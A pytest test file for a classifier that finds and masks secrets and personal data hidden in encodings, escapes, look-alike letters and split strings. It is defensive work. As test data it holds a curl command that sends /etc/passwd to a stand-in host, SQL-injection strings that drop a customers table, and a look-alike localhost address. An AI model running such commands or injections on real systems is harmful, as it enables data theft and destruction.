"""What an encoding, an escape, a look-alike or a cut hides is found where it stands, and masked there."""

from __future__ import annotations

import base64
import gzip
import json
import random
import zlib
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from placet.base import JsonObject
from services.classifier.analysis import masking
from services.classifier.analysis.unwrapping import unwrap
from services.classifier.analysis.unwrapping.layer import Layer
from services.classifier.model import Classification, Span
from tests.classifier_parts import Marks, bench, classify, subject
from tests.unit.test_classifier_masking import shown

TOKEN = "ghp_" + "a1B2" * 9
AWS = "AKIAQYLPMN5HFIQR7XYA"
BENCH = bench(Marks())


def b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def _utf16(text: str) -> list[bytes]:
    encoded = text.encode("utf-16-be")
    return [encoded[at : at + 2] for at in range(0, len(encoded), 2)]


HIDING: dict[str, Callable[[str], str]] = {
    "base64": b64,
    "base64 without padding": lambda text: b64(text).rstrip("="),
    "base64 for URLs": lambda text: base64.urlsafe_b64encode(f"{text} ÿÿ??>>".encode()).decode(),
    "base64 of UTF-16": lambda text: b64(text.encode("utf-16-le")),
    "base64 in lines": lambda text: base64.encodebytes(f"{text}{' and more' * 20}".encode()).decode().strip(),
    "base64 in a path": lambda text: f"v1/objects/{b64(text)}/meta",
    "base64 twice": lambda text: b64(b64(text)),
    "hexadecimal": lambda text: text.encode().hex(),
    "hexadecimal in capitals": lambda text: "0x" + text.encode().hex().upper(),
    "bytes": lambda text: text.encode().hex(" "),
    "URL": lambda text: quote(f"{text}é", safe="").replace("_", "%5F"),
    "URL throughout": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "URL twice": lambda text: quote("".join(f"%{byte:02x}" for byte in text.encode())),
    "HTML": lambda text: "".join(f"&#{ord(char)};" for char in text),
    "HTML in hexadecimal": lambda text: "".join(f"&#x{ord(char):X};" for char in text),
    "escapes": lambda text: "".join(f"\\u{unit.hex()}" for unit in _utf16(text)),
    "bytes of a literal": lambda text: "".join(f"\\x{ord(char):02x}" for char in text),
    "gzip": lambda text: b64(gzip.compress(text.encode(), mtime=0)),
    "zlib": lambda text: b64(zlib.compress(text.encode())),
    "gzip in hexadecimal": lambda text: gzip.compress(text.encode(), mtime=0).hex(),
    "a picture": lambda text: b64(b"\x89PNG\r\n\x1a\n" + bytes(range(128, 255)) + text.encode() + b"\x00" * 90),
    "JSON": lambda text: json.dumps({"a": [1, {"b": text}]}),
    "JSON in JSON": lambda text: json.dumps({"a": json.dumps({"b": json.dumps([text])})}),
    "JSON in base64": lambda text: b64(json.dumps({"a": text, "b": 5})),
    "zero width": "\u200b".join,
    "soft hyphens": "\u00ad".join,
    "directions": lambda text: f"\u202e{text[:9]}\u2066{text[9:]}\u2069",
    "tags": lambda text: "".join(f"{char}{chr(0xE0000 + ord(char) % 128)}" for char in text),
    "strokes": "\u0336".join,
    "full width": lambda text: "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text),
    "mathematical": lambda text: "".join(
        chr(0x1D5BA + ord(char) - ord("a")) if "a" <= char <= "z" else char for char in text
    ),
    "Cyrillic": lambda text: text.translate(str.maketrans("aeopcxAKPBM", "аеорсхАКРВМ")),
    "Greek": lambda text: text.translate(str.maketrans("oABKPM", "οΑΒΚΡΜ")),
    "spaces": " ".join,
    "dashes": "-".join,
    "concatenation": lambda text: f"x = '{text[:12]}' + '{text[12:]}'",
    "SQL concatenation": lambda text: f"'{text[:12]}' || '{text[12:]}'",
}  # fmt: skip


@pytest.mark.parametrize("how", HIDING)
@pytest.mark.parametrize("value", [TOKEN, AWS], ids=["token", "key"])
def test_a_hidden_value_is_found_and_masked_where_it_stands(how: str, value: str) -> None:
    hidden = HIDING[how](value)
    result = classify(BENCH, arguments={"a": f"before {hidden} after"}, purpose="nothing")
    text = result.arguments["a"]
    assert "credential" in result.labels
    assert not result.incomplete
    assert hidden not in text
    assert text.startswith("before ")
    assert text.endswith(" after")
    for finding in result.findings:
        assert 7 <= finding.start < finding.end <= 7 + len(hidden)


def test_a_hidden_value_has_the_placeholder_and_the_fingerprint_of_the_same_in_clear() -> None:
    result = classify(BENCH, arguments={"a": AWS, "b": b64(AWS), "c": "\u200b".join(AWS), "d": [AWS[:9], AWS[9:]]})
    first = "‹AWS_ACCESS_KEY_1›"
    assert result.arguments == {"a": first, "b": first, "c": first, "d": [first, first]}
    assert len({finding.fingerprint for finding in result.findings}) == 1


@pytest.mark.parametrize(
    ("text", "masked", "starts"),
    [
        (f"x={quote('Jane Roe', safe='')}&y=1", "x=‹PERSON_1›&y=1", [2]),
        (f"tom &amp; Jane&#32;Roe, {AWS}", "tom &amp; ‹PERSON_1›, ‹AWS_ACCESS_KEY_1›", [10, 24]),
        (f"{b64('call Jane Roe now')} ok", "‹PERSON_1› ok", [0]),
        ("to Jane\u200b Roe\u200b.", "to ‹PERSON_1›\u200b.", [3]),
        ('{"n":"\\u004aane Roe","m":7777777}', '{"n":"‹PERSON_1›","m":‹PERSON_2›}', [6, 25]),
        ("j: 'Jane ' + 'Roe'.", "j: '‹PERSON_1›'.", [4]),
    ],
)
def test_the_stretch_is_exact_where_the_encoding_is(text: str, masked: str, starts: list[int]) -> None:
    result = classify(BENCH, arguments={"a": text})
    assert result.arguments == {"a": masked}
    assert [finding.start for finding in result.findings] == starts


def test_two_types_in_one_run_are_two_labels() -> None:
    result = classify(BENCH, arguments={"full_name": b64(f"Jane Roe, {AWS}")})
    assert result.labels == ("credential", "pii")
    assert len(result.findings) == 1


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ('{"full_name":"Ada Quill","id":7}', '{"full_name":"‹PERSON_1›","id":7}'),
        ('log: {"user":{"phones":["415 555 2671"]}} end', 'log: {"user":{"phones":["‹PHONE_NUMBER_1›"]}} end'),
        ('{"phone":["415 555 2671"], "pin":40711}', '{"phone":["‹PHONE_NUMBER_1›"], "pin":‹CARD_SECURITY_CODE_1›}'),
        ('[{"name":"DB_PASSWORD","value":"x1y2z3"}]', '[{"name":"DB_PASSWORD","value":"‹SECRET_1›"}]'),
        ('{"cut":{"full_name":"Ada Quill","rest', '{"cut":{"full_name":"‹PERSON_1›","rest'),
        ("ssn=078051120&x=1", "ssn=‹US_SSN_1›&x=1"),
        ("?first_name=Ada&last_name=Quill+Poe", "?first_name=‹PERSON_1›&last_name=‹PERSON_2›"),
        ("first_name: Ada\n- phone: 415 555 2671\n", "first_name: ‹PERSON_1›\n- phone: ‹PHONE_NUMBER_1›\n"),
        ("<dob>1980-02-03</dob><n>1</n>", "<dob>‹DATE_OF_BIRTH_1›</dob><n>1</n>"),
        ("{'full_name': 'Ada Quill'}", "{'full_name': '‹PERSON_1›'}"),
        ("Person(first_name=row, phone=str)", "Person(first_name=row, phone=str)"),
        ("first_name: str\nphone: string | null\n", "first_name: str\nphone: string | null\n"),
        ("SELECT first_name, phone FROM t", "SELECT first_name, phone FROM t"),
    ],
)
def test_a_name_before_a_value_in_a_text_is_its_hint(text: str, masked: str) -> None:
    assert classify(arguments={"a": text}).arguments == {"a": masked}


@pytest.mark.parametrize(
    ("arguments", "masked"),
    [
        ({"pаssword": "corr3ct"}, {"pаssword": "‹SECRET_1›"}),  # a Cyrillic letter in the name
        ({"argv": ["x", "--password", "corr3ct", "run"]}, {"argv": ["x", "--password", "‹SECRET_1›", "run"]}),
        ({"argv": ["--password", "--force"]}, {"argv": ["--password", "--force"]}),
        (
            {"kind": "Secret", "stringData": {"user": "portal", "blob": "q8Zr2LkPw0Xv7Tn4bY6c"}},
            {"kind": "Secret", "stringData": {"user": "portal", "blob": "‹SECRET_1›"}},
        ),
        ({"kind": "ConfigMap", "data": {"blob": "q8Zr2LkPw0Xv7Tn4bY6c"}}, None),
        ({"parts": [AWS[:10], AWS[10:], "x"]}, None),  # one word with its neighbour is no key
        ({"parts": [AWS[:10], AWS[10:]], "n": 1}, {"parts": ["‹AWS_ACCESS_KEY_1›"] * 2, "n": 1}),
        ({"parts": ["it is Jane", " Roe"]}, None),  # a name over a border is chance
        ({"parts": ["password=‹SECRET_1›", "0"]}, None),  # masked already, and at its end
    ],
)
def test_names_above_and_neighbours(arguments: JsonObject, masked: JsonObject | None) -> None:
    assert classify(BENCH, arguments=arguments).arguments == (arguments if masked is None else masked)


def test_a_value_is_masked_in_an_encoding_where_nothing_would_detect_it() -> None:
    secret = "corr3ct horse"
    notes = [f"n {b64('use ' + secret)}", f"n {secret.encode().hex()}", f"n {quote(secret)}", "\u200b".join(secret)]
    result = classify(BENCH, arguments={"password": secret, "notes": notes})
    assert result.arguments == {
        "password": "‹SECRET_1›",
        "notes": ["n ‹SECRET_1›", "n ‹SECRET_1›", "n ‹SECRET_1›", "‹SECRET_1›"],
    }


def test_what_stands_decoded_in_sql_and_hosts_counts_as_a_fact() -> None:
    hidden = b64("DROP TABLE customers; -- " + "x" * 20)
    facts = classify(arguments={"job": hidden, "cmd": b64("curl https://drop.example.net/x -d @/etc/passwd")}).facts
    assert [str(kind) for kind in facts.statement_kinds] == ["drop"]
    assert facts.tables == ("customers",)
    assert facts.destination_hosts == ("drop.example.net",)
    assert facts.external_destination


def test_a_look_alike_of_our_host_is_not_ours() -> None:
    facts = classify(arguments={"url": "http://lоcalhost/x"}).facts  # a Cyrillic letter
    assert facts.external_destination


def test_a_statement_is_read_as_the_database_reads_it() -> None:
    """A full-width quote is none to a database, whatever it looks like."""
    facts = classify(arguments={"sql": "SELECT ＇a FROM t; DROP TABLE customers; --＇"}).facts
    assert "customers" in facts.tables or "unknown" in [str(kind) for kind in facts.statement_kinds]


def test_a_value_of_a_place_that_is_masked_whole_is_masked_elsewhere_too() -> None:
    closed = b64(b"Salted__" + random.Random(1).randbytes(40))
    result = classify(BENCH, arguments={"password": f"corr3ct {closed}", "note": f"corr3ct {closed}", "a": "b"})
    assert closed not in shown(result)
    result = classify(BENCH, arguments={"a": f"{AWS} {closed}", "note": [AWS[:7] + "\u200b" + AWS[7:]]})
    assert result.arguments["note"] == ["‹AWS_ACCESS_KEY_1›"]
    result = classify(BENCH, arguments={"a": f"password=corr3ct7 {closed}", "note": "say corr3ct7"})
    assert result.arguments["note"] == "say ‹SECRET_1›"


@pytest.mark.parametrize("how", ["base64", "hexadecimal", "URL throughout", "gzip", "zero width", "JSON in base64"])
def test_the_last_look_sees_what_is_encoded(how: str) -> None:
    detected = {"Jane Roe": Span("PERSON", 0, 8, 1, "x")}
    assert list(masking.survivors([{"a": [HIDING[how]("to Jane Roe")]}], detected, [])) == ["PERSON"]
    assert list(masking.survivors([{"a": [HIDING[how]("to Jane Row")]}], detected, [])) == []


RANDOM = random.Random(5)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (b64(b"Salted__" + RANDOM.randbytes(40)), "binary"),
        (b64(b"PK\x03\x04" + RANDOM.randbytes(40)), "binary"),
        (b64(RANDOM.randbytes(700)), "binary"),
        (RANDOM.randbytes(700).hex(), "binary"),
        (b64(gzip.compress(RANDOM.randbytes(100), mtime=0)), "binary"),
        (b64(gzip.compress(b"a" * 10_000_000, mtime=0)), "too_large"),
        (b64(zlib.compress(b"a" * 10_000_000)), "too_large"),
        (b64(gzip.compress(gzip.compress(gzip.compress(b"text", mtime=0), mtime=0), mtime=0)), "too_deep"),
        (
            b64(
                b64(b64(b64(b64(b64("a text that is deep"))))),
            ),
            "too_deep",
        ),
    ],
)
def test_what_cannot_be_looked_into_is_named_and_masked_whole(text: str, reason: str) -> None:
    result = classify(BENCH, arguments={"a": [f"see {text} and Jane Roe", "fine"]}, purpose="for Jane Roe")
    assert [(place.pointer, place.reason) for place in result.incomplete] == [("/arguments/a/0", reason)]
    assert result.arguments == {"a": ["‹NOT_INSPECTED_1›", "fine"]}
    assert result.sensitivity == "restricted"
    assert result.labels == ("pii",)
    assert result.purpose == "for ‹PERSON_1›"


@pytest.mark.parametrize(
    "text",
    [
        "d41d8cd98f00b204e9800998ecf8427e",
        "550e8400-e29b-41d4-a716-446655440000",
        "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
        "sha512-" + b64(RANDOM.randbytes(64)),
        "/usr/local/lib/python3.11/site-packages/services_classifier_analysis/unwrapping",
        "a-long-slug-of-an-article-" * 20,
        "x" * 1_000,
        "1234567890" * 60,
        "signature " + b64(RANDOM.randbytes(256)),
        "cursor=" + base64.urlsafe_b64encode(RANDOM.randbytes(96)).decode(),
        "ssh-ed25519 " + b64(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 " + RANDOM.randbytes(32)) + " jo@laptop",
        "data:image/png;base64," + b64(b"\x89PNG\r\n\x1a\n" + RANDOM.randbytes(900)),
        "-----BEGIN CERTIFICATE-----\n"
        + base64.encodebytes(b"\x30\x82\x03\x84" + RANDOM.randbytes(900)).decode()
        + "-----END CERTIFICATE-----",
        '!function(e,t){for(var n=0;n<t.length;n++)e[t[n]]="a"+n}(window,[1,2,3]);' * 40,
        "2026-11-25T10:00:00Z 10.0.0.1 GET /a/b?x=1%20or%202 200 12 41.5 7.3.11",
        "1 0 0 1 1 0 1 1 0 1 0 1",
        "version 1.2.3.4, 10.20.30.40 and 2026.11.25.1",
        "Grüße — “quoted” … naïve café №5 ½ ™ 東京、日本。",
        "привет, это текст: почта и пароль",
    ],
)  # fmt: skip
def test_what_is_ordinary_is_neither_found_nor_closed(text: str) -> None:
    result = classify(BENCH, arguments={"a": text})
    assert result.arguments == {"a": text}
    assert not result.incomplete
    assert not result.findings


def test_a_vector_in_base64_is_an_embedding() -> None:
    import struct  # noqa: PLC0415 - one test

    vector = struct.pack("<96f", *(RANDOM.gauss(0, 0.05) for _ in range(96)))
    result = classify(
        BENCH, arguments={"a": b64(vector), "b": json.dumps({"v": [RANDOM.gauss(0, 0.05) for _ in range(64)]})}
    )
    assert result.labels == ("embedding",)
    assert result.arguments == {"a": "‹EMBEDDING_1›", "b": '{"v": ‹EMBEDDING_2›}'}


HOWS = [
    how
    for how in HIDING
    if how not in {"bytes of a literal", "Cyrillic", "Greek", "mathematical", "base64 in lines", "dashes", "spaces"}
]


@pytest.mark.parametrize("value", [TOKEN, AWS])
@pytest.mark.parametrize("outer", [None, *HOWS])
@pytest.mark.parametrize("inner", HOWS)
def test_one_way_of_hiding_inside_another(inner: str, outer: str | None, value: str) -> None:
    hidden = HIDING[inner](value)
    hidden = HIDING[outer](hidden) if outer else hidden
    for noise in ("", "a/b"):
        result = BENCH.classify(subject(arguments={"a": f"{noise}\n{hidden}\n{noise}"}))
        assert isinstance(result, Classification)
        assert value not in shown(result)
        assert hidden not in result.arguments["a"]
        assert "credential" in result.labels or result.incomplete


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(HOWS), min_size=1, max_size=2), st.sampled_from([TOKEN, AWS]), st.text(max_size=8))
def test_whatever_stands_around(hows: list[str], value: str, noise: str) -> None:
    hidden = value
    for how in hows:
        hidden = HIDING[how](hidden)
    result = BENCH.classify(subject(arguments={"a": f"{noise}\n{hidden}\n{noise}"}))
    assert isinstance(result, Classification)
    assert value not in shown(result)
    assert hidden not in result.arguments["a"]
    assert "credential" in result.labels or result.incomplete


def test_of_a_long_text_only_what_stands_around_an_escape_is_read_again() -> None:
    before, after = "all is well today and so on " * 400, " nothing to see here " * 400
    text = f"{before}gh%70_{'a1B2' * 9}{after}"
    inner = [one for one in unwrap.inside(Layer(text), (), unwrap.Room(10**6, 10**6)) if isinstance(one, unwrap.Inner)]
    assert sum(len(one.layer.text) for one in inner) < 1_200
    result = classify(BENCH, arguments={"a": text})
    assert "credential" in result.labels
    assert result.arguments["a"].startswith(before.rstrip())
    assert result.arguments["a"].endswith(after)


def test_a_long_value_with_few_escapes_is_one() -> None:
    key = (
        "-----BEGIN PRIVATE KEY-----"
        + "".join(f"\\u000a{'aB3/' * 100}" for _ in range(20))
        + "-----END PRIVATE KEY-----"
    )
    result = classify(BENCH, arguments={"a": f"see {key} there"})
    assert result.arguments["a"].count("‹") == 1
    assert "aB3/" not in result.arguments["a"]


def _everything(text: str) -> Any:
    return {"k": text, text: [text, {"password": text}]}


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*HIDING]), min_size=1, max_size=3), st.sampled_from([TOKEN, "Jane Roe", "x1y2 z3!"]))
def test_masking_what_was_masked_changes_nothing(hows: list[str], value: str) -> None:
    texts = [HIDING[how](value) for how in hows]
    once = classify(BENCH, arguments={"a": _everything(" and ".join(texts)), "b": texts}, purpose=texts[0])
    twice = classify(BENCH, arguments=dict(once.arguments), purpose=once.purpose)
    assert (twice.arguments, twice.purpose, twice.findings) == (once.arguments, once.purpose, ())
